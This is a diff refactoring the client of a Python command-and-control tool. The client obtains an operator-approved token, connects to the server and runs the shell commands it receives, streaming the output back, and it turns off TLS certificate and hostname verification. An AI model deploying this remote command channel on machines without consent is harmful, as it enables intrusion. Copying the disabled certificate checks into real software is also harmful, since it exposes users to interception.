@@ -6,30 +6,90 @@ Handles connection to C2 server and command execution loop
 import socket
 import ssl
 import platform
+import random
 import time
 import os
-from common.protocol import send_message, recv_message
+from common.protocol import (
+    send_message, send_message_parts, recv_message, enable_keepalive, enable_nodelay
+)
 from common.config import (
-    TLS_ENABLED, TOKEN_FILE_CLIENT, TOKEN_POLL_INTERVAL,
-    MSG_REGISTER, MSG_CMD, MSG_RESULT, MSG_TOKEN_REQUEST, MSG_TOKEN_STATUS,
-    TOKEN_APPROVED, TOKEN_PENDING, TOKEN_DENIED, TOKEN_REVOKED, TOKEN_INVALID
+    TLS_ENABLED, TOKEN_FILE_CLIENT, TOKEN_APPROVAL_TIMEOUT, TOKEN_KEEPALIVE_IDLE,
+    RECONNECT_DELAY_INITIAL, RECONNECT_DELAY_MAX,
+    MSG_REGISTER_B, MSG_CMD_B, MSG_RESULT_B, MSG_RESULT_CHUNK_B, MSG_TOKEN_REQUEST_B,
+    MSG_TOKEN_STATUS, MSG_TOKEN_STATUS_B, TOKEN_APPROVED, TOKEN_PENDING, TOKEN_DENIED, TOKEN_REVOKED, TOKEN_INVALID
 )
 from client.executor import execute_command
+from client.logger_config import logger
 
 
-def get_hostname():
+# Shared TLS context so OpenSSL can resume sessions across reconnects
+_CLIENT_SSL_CTX = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+_CLIENT_SSL_CTX.check_hostname = False
+_CLIENT_SSL_CTX.verify_mode = ssl.CERT_NONE
+
+# Last TLS session per server, reused for abbreviated handshakes
+_SESSION_CACHE = {}  # {(host, port): ssl.SSLSession}
+
+
+def wrap_tls(sock, server_host, port):
     """
-    Get client hostname/identifier
+    Wrap socket with TLS, resuming the previous session to this server if any
+
+    Args:
+        sock: Connected plain socket
+        server_host: Server IP address
+        port: Server port number
 
     Returns:
-        str: Client hostname
+        ssl.SSLSocket: TLS-wrapped socket
     """
+    tls_sock = _CLIENT_SSL_CTX.wrap_socket(
+        sock,
+        server_hostname=server_host,
+        session=_SESSION_CACHE.get((server_host, port))
+    )
+    remember_tls_session(tls_sock, server_host, port)
+    return tls_sock
+
+
+def remember_tls_session(sock, server_host, port):
+    """
+    Cache the socket's TLS session for the next connection to this server
+
+    TLS 1.3 delivers session tickets after the handshake, so this is called
+    again once the server's first reply has been read.
+
+    Args:
+        sock: Socket object (ignored unless TLS-wrapped)
+        server_host: Server IP address
+        port: Server port number
+    """
+    session = getattr(sock, 'session', None)
+    if session is not None:
+        _SESSION_CACHE[(server_host, port)] = session
+
+
+def _detect_hostname():
+    """Look up hostname once - it does not change while the client runs"""
     try:
-        return platform.node()
+        return platform.node() or "unknown-client"
     except:
         return "unknown-client"
 
 
+_HOSTNAME = _detect_hostname()
+
+
+def get_hostname():
+    """
+    Get client hostname/identifier
+
+    Returns:
+        str: Client hostname
+    """
+    return _HOSTNAME
+
+
 def load_client_token():
     """
     Load token from client token file
@@ -53,7 +113,7 @@ def save_client_token(token):
     """
     with open(TOKEN_FILE_CLIENT, 'w') as f:
         f.write(token)
-    print(f"[+] Token saved to {TOKEN_FILE_CLIENT}")
+    logger.info("[+] Token saved to %s", TOKEN_FILE_CLIENT)
 
 
 def request_token_from_server(server_host, port):
@@ -68,19 +128,17 @@ def request_token_from_server(server_host, port):
         str: Approved token or None if denied/error
     """
     try:
-        print(f"[*] Connecting to {server_host}:{port}...")
+        logger.info("[*] Connecting to %s:%s...", server_host, port)
 
         # Create socket and connect
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         sock.settimeout(10)
         sock.connect((server_host, port))
+        enable_nodelay(sock)
 
         # Wrap with TLS if enabled
         if TLS_ENABLED:
-            ssl_context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-            ssl_context.check_hostname = False
-            ssl_context.verify_mode = ssl.CERT_NONE
-            sock = ssl_context.wrap_socket(sock, server_hostname=server_host)
+            sock = wrap_tls(sock, server_host, port)
 
         hostname = get_hostname()
 
@@ -91,114 +149,101 @@ def request_token_from_server(server_host, port):
             client_ip = "unknown"
 
         # Send token request
-        request_msg = f"{MSG_TOKEN_REQUEST}:{hostname}:{client_ip}"
+        request_msg = b':'.join([MSG_TOKEN_REQUEST_B, hostname.encode(), client_ip.encode()])
         send_message(sock, request_msg)
-        print(f"[*] Token request sent for hostname: {hostname}")
+        logger.info("[*] Token request sent for hostname: %s", hostname)
 
         # Wait for initial response
         response = recv_message(sock)
+        remember_tls_session(sock, server_host, port)
         if not response or not response.startswith(MSG_TOKEN_STATUS):
-            print("[!] Invalid server response")
+            logger.warning("[!] Invalid server response")
             sock.close()
             return None
 
-        # Parse status
-        parts = response.split(':', 1)
-        if len(parts) < 2:
-            print("[!] Invalid status message")
+        # Parse status: TOKEN_STATUS:status[:token]
+        _msg_type, sep, rest = response.partition(':')
+        if not sep:
+            logger.warning("[!] Invalid status message")
             sock.close()
             return None
 
-        status_data = parts[1]
-        status_parts = status_data.split(':', 1)
-        status = status_parts[0]
+        status, has_token, token = rest.partition(':')
 
         # Handle different statuses
         if status == TOKEN_APPROVED:
             # Already approved - get token
-            if len(status_parts) > 1:
-                token = status_parts[1]
-                print("[+] Token request approved!")
+            if has_token:
+                logger.info("[+] Token request approved!")
                 sock.close()
                 return token
             else:
-                print("[!] Approved but no token received")
+                logger.warning("[!] Approved but no token received")
                 sock.close()
                 return None
 
         elif status == TOKEN_PENDING:
-            print("[*] Token request pending approval...")
-            print("[*] Waiting for server operator to approve...")
+            logger.info("[*] Token request pending approval...")
+            logger.info("[*] Waiting for server operator to approve...")
 
-            # Poll for approval
-            poll_count = 0
-            max_polls = 120  # 10 minutes max wait (120 * 5 seconds)
+            # Server pushes the decision - block on a single recv instead of polling.
+            # Kernel keepalive probes replace app-level pings to detect a dead server.
+            enable_keepalive(sock, idle=TOKEN_KEEPALIVE_IDLE)
+            sock.settimeout(TOKEN_APPROVAL_TIMEOUT)
 
-            while poll_count < max_polls:
-                time.sleep(TOKEN_POLL_INTERVAL)
-                poll_count += 1
+            try:
+                response = recv_message(sock)
+            except socket.timeout:
+                logger.warning("[!] Timeout waiting for approval")
+                sock.close()
+                return None
 
-                # Check status
-                try:
-                    # Send a small keepalive/status check
-                    send_message(sock, f"{MSG_TOKEN_REQUEST}:{hostname}:status_check")
-                    response = recv_message(sock)
-
-                    if not response:
-                        print("[!] Connection lost")
-                        sock.close()
-                        return None
-
-                    if response.startswith(MSG_TOKEN_STATUS):
-                        status_data = response.split(':', 1)[1]
-                        status_parts = status_data.split(':', 1)
-                        status = status_parts[0]
-
-                        if status == TOKEN_APPROVED:
-                            if len(status_parts) > 1:
-                                token = status_parts[1]
-                                print("[+] Token approved!")
-                                sock.close()
-                                return token
-
-                        elif status == TOKEN_DENIED:
-                            print("[!] Token request denied by server operator")
-                            sock.close()
-                            return None
-
-                        elif status == TOKEN_PENDING:
-                            # Still pending
-                            if poll_count % 6 == 0:  # Print every 30 seconds
-                                print(f"[*] Still waiting for approval... ({poll_count * TOKEN_POLL_INTERVAL}s elapsed)")
-                            continue
+            if not response:
+                logger.warning("[!] Connection lost")
+                sock.close()
+                return None
 
-                except Exception as e:
-                    print(f"[!] Error while waiting: {e}")
-                    sock.close()
-                    return None
+            if not response.startswith(MSG_TOKEN_STATUS):
+                logger.warning("[!] Invalid server response")
+                sock.close()
+                return None
 
-            print("[!] Timeout waiting for approval")
-            sock.close()
-            return None
+            _msg_type, _, rest = response.partition(':')
+            status, has_token, token = rest.partition(':')
+
+            if status == TOKEN_APPROVED and has_token:
+                logger.info("[+] Token approved!")
+                sock.close()
+                return token
+
+            elif status == TOKEN_DENIED:
+                logger.warning("[!] Token request denied by server operator")
+                sock.close()
+                return None
+
+            else:
+                logger.warning("[!] Unexpected status while waiting: %s", status)
+                sock.close()
+                return None
 
         elif status == TOKEN_DENIED:
-            print("[!] Token request denied")
+            logger.warning("[!] Token request denied")
             sock.close()
             return None
 
         else:
-            print(f"[!] Unknown status: {status}")
+            logger.warning("[!] Unknown status: %s", status)
             sock.close()
             return None
 
     except ConnectionRefusedError:
-        print("[!] Connection refused")
+        logger.warning("[!] Connection refused")
         return None
     except ssl.SSLError as e:
-        print(f"[!] TLS error: {e}")
+        logger.error("[!] TLS error: %s", e)
         return None
     except Exception as e:
-        print(f"[!] Error: {e}")
+        logger.error("[!] Error: %s", e)
         return None
 
 
@@ -218,23 +263,21 @@ def connect_to_server(server_host, port, token):
         # Create socket and connect
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         sock.settimeout(5)  # 5 second connection timeout
-        print(f"[*] Connecting to {server_host}:{port}...")
+        logger.info("[*] Connecting to %s:%s...", server_host, port)
         sock.connect((server_host, port))
+        enable_nodelay(sock)
 
         # Wrap with TLS if enabled
         if TLS_ENABLED:
-            ssl_context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-            ssl_context.check_hostname = False
-            ssl_context.verify_mode = ssl.CERT_NONE
-            sock = ssl_context.wrap_socket(sock, server_hostname=server_host)
+            sock = wrap_tls(sock, server_host, port)
 
         # Remove timeout for normal operation
         sock.settimeout(None)
 
         # Send registration with token
         hostname = get_hostname()
-        if not send_message(sock, f"{MSG_REGISTER}:{hostname}:{token}"):
-            print("[!] Failed to send registration message")
+        if not send_message(sock, b':'.join([MSG_REGISTER_B, hostname.encode(), token.encode()])):
+            logger.warning("[!] Failed to send registration message")
             sock.close()
             return None
 
@@ -245,72 +288,155 @@ def connect_to_server(server_host, port, token):
         try:
             response = recv_message(sock)
         except socket.timeout:
-            print("[!] Timeout waiting for server response")
-            print("[*] Server may be down or not responding")
+            logger.warning("[!] Timeout waiting for server response")
+            logger.info("[*] Server may be down or not responding")
             sock.close()
             return None
 
+        # Session ticket has arrived by now - keep it for the next reconnect
+        remember_tls_session(sock, server_host, port)
+
         # Check if we received a response
         if response is None:
-            print("[!] No response from server")
-            print("[*] Connection may have been lost")
+            logger.warning("[!] No response from server")
+            logger.info("[*] Connection may have been lost")
             sock.close()
             return None
 
         # Response must be a TOKEN_STATUS message
         if not response.startswith(MSG_TOKEN_STATUS):
-            print(f"[!] Unexpected response from server: {response[:50]}")
+            logger.warning("[!] Unexpected response from server: %s", response[:50])
             sock.close()
             return None
 
         # Parse the token status
-        status_parts = response.split(':', 1)
-        if len(status_parts) < 2:
-            print("[!] Invalid TOKEN_STATUS message format")
+        _msg_type, sep, status = response.partition(':')
+        if not sep:
+            logger.warning("[!] Invalid TOKEN_STATUS message format")
             sock.close()
             return None
 
-        status = status_parts[1]
-
         # Handle authentication result
         if status == TOKEN_APPROVED:
             # Authentication successful!
             sock.settimeout(None)  # Remove timeout for normal operation
-            print(f"[+] Authentication successful")
-            print(f"[+] Connected to {server_host}:{port}")
-            print(f"[+] Registered as: {hostname}")
+            logger.info("[+] Authentication successful")
+            logger.info("[+] Connected to %s:%s", server_host, port)
+            logger.info("[+] Registered as: %s", hostname)
             return sock
 
         elif status == TOKEN_REVOKED:
-            print(f"[!] Authentication failed - token has been REVOKED")
+            logger.warning("[!] Authentication failed - token has been REVOKED")
             sock.close()
             return "REVOKED_TOKEN"
 
         elif status == TOKEN_INVALID:
-            print(f"[!] Authentication failed - token is INVALID")
+            logger.warning("[!] Authentication failed - token is INVALID")
             sock.close()
             return "INVALID_TOKEN"
 
         else:
-            print(f"[!] Unknown authentication status: {status}")
+            logger.warning("[!] Unknown authentication status: %s", status)
             sock.close()
             return None
 
     except socket.timeout:
-        print("[!] Connection timeout - server not responding")
-        print("[*] Make sure the server is running and IP/PORT are correct")
+        logger.warning("[!] Connection timeout - server not responding")
+        logger.info("[*] Make sure the server is running and IP/PORT are correct")
         return None
     except ConnectionRefusedError:
-        print("[!] Connection refused - server is not running or port is blocked")
+        logger.warning("[!] Connection refused - server is not running or port is blocked")
         return None
     except ssl.SSLError as e:
-        print(f"[!] TLS error: {e}")
+        logger.error("[!] TLS error: %s", e)
         return None
     except Exception as e:
-        print(f"[!] Connection error: {e}")
+        logger.error("[!] Connection error: %s", e)
         return None
 
 
+def _handle_token_status(sock, payload):
+    """
+    Handle TOKEN_STATUS message (revocation/deletion)
+
+    Args:
+        sock: Connected socket
+        payload: Message body after the type prefix (bytes)
+
+    Returns:
+        bool: True to keep running, False to leave the main loop
+    """
+    status = payload.decode('utf-8', errors='replace')
+
+    if status == TOKEN_REVOKED:
+        print("\n" + "="*60)
+        print("[!] YOUR TOKEN HAS BEEN REVOKED")
+        print("="*60)
+        print("[*] You have been disconnected from the server")
+        print("[*] Your token file has NOT been deleted")
+        print("[*] Contact the server administrator to renew your access")
+        print("="*60)
+        # Don't delete token - it can be renewed
+        return False
+
+    elif status == 'deleted':
+        print("\n" + "="*60)
+        print("[!] YOUR TOKEN HAS BEEN DELETED")
+        print("="*60)
+        print("[*] Deleting local token file...")
+
+        # Delete local token file
+        if os.path.exists(TOKEN_FILE_CLIENT):
+            try:
+                os.remove(TOKEN_FILE_CLIENT)
+                logger.info("[+] Local token file '%s' deleted", TOKEN_FILE_CLIENT)
+            except Exception as e:
+                logger.error("[!] Failed to delete token file: %s", e)
+
+        print("[*] You must request a new token to reconnect")
+        print("="*60)
+        return False
+
+    return True
+
+
+def _handle_cmd(sock, payload):
+    """
+    Handle CMD message: execute command and send the result back
+
+    Args:
+        sock: Connected socket
+        payload: Message body after the type prefix (bytes)
+
+    Returns:
+        bool: True to keep running, False to leave the main loop
+    """
+    command = payload.decode('utf-8', errors='replace')
+
+    # Stream output as RESULT_CHUNK:stream:data messages while the command runs
+    def send_chunk(stream, data):
+        return send_message_parts(sock, [_RESULT_CHUNK_PREFIXES[stream], data])
+
+    if not execute_command(command, send_chunk):
+        return False
+
+    # Empty RESULT marks the end of the output
+    return send_message_parts(sock, [_RESULT_PREFIX, b'|||'])
+
+
+_RESULT_PREFIX = MSG_RESULT_B + b':'
+_RESULT_CHUNK_PREFIXES = {
+    stream: b':'.join([MSG_RESULT_CHUNK_B, stream.encode(), b'']) for stream in ('stdout', 'stderr')
+}
+
+
+# Message type (raw bytes prefix) -> handler
+MESSAGE_HANDLERS = {
+    MSG_TOKEN_STATUS_B: _handle_token_status,
+    MSG_CMD_B: _handle_cmd,
+}
+
+
 def main_loop(sock):
     """
     Main command execution loop
@@ -320,59 +446,18 @@ def main_loop(sock):
     """
     while True:
         try:
-            # Wait for command from server
-            message = recv_message(sock)
+            # Wait for command from server (raw bytes - decoded per handler)
+            message = recv_message(sock, decode=False)
 
             if message is None:
                 break
 
-            # Handle token status messages (revocation/deletion)
-            if message.startswith(MSG_TOKEN_STATUS):
-                status_parts = message.split(':', 1)
-                if len(status_parts) > 1:
-                    status = status_parts[1]
-
-                    if status == TOKEN_REVOKED:
-                        print("\n" + "="*60)
-                        print("[!] YOUR TOKEN HAS BEEN REVOKED")
-                        print("="*60)
-                        print("[*] You have been disconnected from the server")
-                        print("[*] Your token file has NOT been deleted")
-                        print("[*] Contact the server administrator to renew your access")
-                        print("="*60)
-                        # Don't delete token - it can be renewed
-                        break
-
-                    elif status == 'deleted':
-                        print("\n" + "="*60)
-                        print("[!] YOUR TOKEN HAS BEEN DELETED")
-                        print("="*60)
-                        print("[*] Deleting local token file...")
-
-                        # Delete local token file
-                        if os.path.exists(TOKEN_FILE_CLIENT):
-                            try:
-                                os.remove(TOKEN_FILE_CLIENT)
-                                print(f"[+] Local token file '{TOKEN_FILE_CLIENT}' deleted")
-                            except Exception as e:
-                                print(f"[!] Failed to delete token file: {e}")
-
-                        print("[*] You must request a new token to reconnect")
-                        print("="*60)
-                        break
-
-            # Parse command
-            elif message.startswith(MSG_CMD):
-                command = message.split(':', 1)[1]
-
-                # Execute command
-                stdout, stderr = execute_command(command)
-
-                # Send result back
-                result = f"{MSG_RESULT}:{stdout}|||{stderr}"
-
-                if not send_message(sock, result):
-                    break
+            # Route on the type prefix without decoding the whole payload
+            msg_type, _, payload = message.partition(b':')
+            handler = MESSAGE_HANDLERS.get(bytes(msg_type))
+
+            if handler and not handler(sock, payload):
+                break
 
         except KeyboardInterrupt:
             break
@@ -388,6 +473,9 @@ def connect_and_run(server_host, port):
         server_host: Server IP address
         port: Server port number
     """
+    # Delay before the next reconnect - doubles on each failure
+    retry_delay = RECONNECT_DELAY_INITIAL
+
     # Main connection loop
     while True:
         # IMPORTANT: Reload token from file on each connection attempt
@@ -395,16 +483,16 @@ def connect_and_run(server_host, port):
         token = load_client_token()
 
         if token:
-            print(f"[+] Token found in {TOKEN_FILE_CLIENT}")
+            logger.info("[+] Token found in %s", TOKEN_FILE_CLIENT)
         else:
-            print(f"[!] No token found in {TOKEN_FILE_CLIENT}")
-            print("[*] You need a token to connect to the C2 server")
+            logger.warning("[!] No token found in %s", TOKEN_FILE_CLIENT)
+            logger.info("[*] You need a token to connect to the C2 server")
 
             # Ask user if they want to request a token
             choice = input("\n[?] Request token from server? (y/n): ").strip().lower()
 
             if choice != 'y':
-                print("[*] Cannot connect without a token. Exiting.")
+                logger.info("[*] Cannot connect without a token. Exiting.")
                 return
 
             # Request token
@@ -412,10 +500,10 @@ def connect_and_run(server_host, port):
 
             if token:
                 save_client_token(token)
-                print("[+] Token received and saved!")
-                print("[*] You can now connect to the server")
+                logger.info("[+] Token received and saved!")
+                logger.info("[*] You can now connect to the server")
             else:
-                print("[!] Failed to obtain token")
+                logger.warning("[!] Failed to obtain token")
                 return
 
         # Connect with current token
@@ -428,7 +516,7 @@ def connect_and_run(server_host, port):
             print("="*60)
             print("[*] Your token has been REVOKED by the server operator")
             print("[*] Your access is temporarily suspended")
-            print(f"[*] Token file kept: {TOKEN_FILE_CLIENT}")
+            logger.info("[*] Token file kept: %s", TOKEN_FILE_CLIENT)
             print("[*] Contact the server administrator to renew your access")
             print("[*] Your token can be renewed without requesting a new one")
             print("="*60)
@@ -440,7 +528,7 @@ def connect_and_run(server_host, port):
                 # Loop will reload token and try again
                 continue
             else:
-                print("[*] Exiting. Contact administrator to renew your access.")
+                logger.info("[*] Exiting. Contact administrator to renew your access.")
                 break
 
         # Check if token was rejected as invalid
@@ -449,15 +537,15 @@ def connect_and_run(server_host, port):
             print("[!] AUTHENTICATION FAILED")
             print("="*60)
             print("[*] Your token is invalid or expired")
-            print(f"[*] Deleting invalid token file: {TOKEN_FILE_CLIENT}")
+            logger.info("[*] Deleting invalid token file: %s", TOKEN_FILE_CLIENT)
 
             # Delete invalid token
             if os.path.exists(TOKEN_FILE_CLIENT):
                 try:
                     os.remove(TOKEN_FILE_CLIENT)
-                    print(f"[+] Invalid token file deleted")
+                    logger.info("[+] Invalid token file deleted")
                 except Exception as e:
-                    print(f"[!] Failed to delete token file: {e}")
+                    logger.error("[!] Failed to delete token file: %s", e)
 
             # Ask if they want to request a new token
             choice = input("\n[?] Request a new token from server? (y/n): ").strip().lower()
@@ -468,26 +556,29 @@ def connect_and_run(server_host, port):
 
                 if new_token:
                     save_client_token(new_token)
-                    print("[+] New token received and saved!")
+                    logger.info("[+] New token received and saved!")
                     # Token will be reloaded from file on next loop iteration
                     continue
                 else:
-                    print("[!] Failed to obtain new token")
+                    logger.warning("[!] Failed to obtain new token")
                     break
             else:
-                print("[*] Cannot connect without a valid token. Exiting.")
+                logger.info("[*] Cannot connect without a valid token. Exiting.")
                 break
 
         elif sock:
+            # Connected - the next reconnect starts from the short delay again
+            retry_delay = RECONNECT_DELAY_INITIAL
             try:
                 main_loop(sock)
             except Exception as e:
-                print(f"[!] Error in main loop: {e}")
+                logger.error("[!] Error in main loop: %s", e)
             finally:
                 sock.close()
-                print("[*] Disconnected from server")
+                logger.info("[*] Disconnected from server")
         else:
-            print("[!] Failed to connect")
+            logger.warning("[!] Failed to connect")
+            retry_delay = min(retry_delay * 2, RECONNECT_DELAY_MAX)
 
         # Ask user if they want to reconnect
         choice = input("\nReconnect? (y/n): ").strip().lower()
@@ -495,4 +586,5 @@ def connect_and_run(server_host, port):
         if choice != 'y':
             break
 
-        time.sleep(1)
+        # Jitter so clients dropped together don't all retry in lockstep
+        time.sleep(retry_delay * (0.5 + random.random()))